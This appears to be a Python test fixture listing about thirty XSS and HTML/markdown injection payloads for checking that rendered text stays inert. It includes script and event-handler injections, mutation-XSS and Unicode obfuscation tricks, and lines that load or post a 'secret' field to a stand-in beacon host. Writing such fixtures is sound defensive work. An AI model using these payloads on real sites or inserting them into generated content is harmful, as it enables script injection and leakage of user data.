"""Texts that try to become something else than text. `BEACON` marks every address in them."""

from __future__ import annotations

BEACON = "http://beacon.example/x"

PAYLOADS = (
    "<script>window.pwned=1;alert(1)</script>",
    f'<img src="{BEACON}" onerror="window.pwned=1">',
    "<img src=x onerror=alert(1)//>",
    f'<svg onload="window.pwned=1"><image href="{BEACON}"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>',
    f"<style>body{{background:url({BEACON})}}</style>",
    f'<link rel="stylesheet" href="{BEACON}">',
    f'<meta http-equiv="refresh" content="0;url={BEACON}">',
    f'<form action="{BEACON}"><input name="secret" autofocus onfocus="window.pwned=1"></form>',
    f'<iframe src="{BEACON}" srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f'<object data="{BEACON}"></object><embed src="{BEACON}">',
    f'<video poster="{BEACON}"><source src="{BEACON}"></video><audio src="{BEACON}" autoplay>',
    f'<base href="{BEACON}/"><a href="javascript:window.pwned=1">here</a>',
    f"![picture]({BEACON}) [link](javascript:alert(1)) <{BEACON}>",
    f"[ref]: {BEACON}\n![a][ref]",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    "</p></div></section></body><script>window.pwned=1</script>",
    "<!-- --!><img src=x onerror=window.pwned=1> -->",
    "<details open ontoggle=window.pwned=1>x</details>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u202e<tpircs/>1=denwp.wodniw<tpircs>\u202c reversed \u2066isolate\u2069",
    "\x00<scr\x00ipt>window.pwned=1</scr\x00ipt>\x0c\x1b[31m",
    "＜script＞window.pwned=1＜/script＞ ‹img› ʺonerror=1",
    "${window.pwned=1} `${alert(1)}` {{constructor.constructor('window.pwned=1')()}} @children",
    '<button data-act="ask" data-example="0" class="rag-marker">[1]</button> [1] [2] [99] [١]',
    '<template shadowrootmode="open"><script>window.pwned=1</script></template>',
    "<marquee onstart=window.pwned=1>x</marquee><dialog open>covered</dialog>",
    '__i18n__{"key": "pwned"} $$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{60}\\)',
    f"<a href='{BEACON}' ping='{BEACON}' target=_top>x</a> {BEACON}",
)
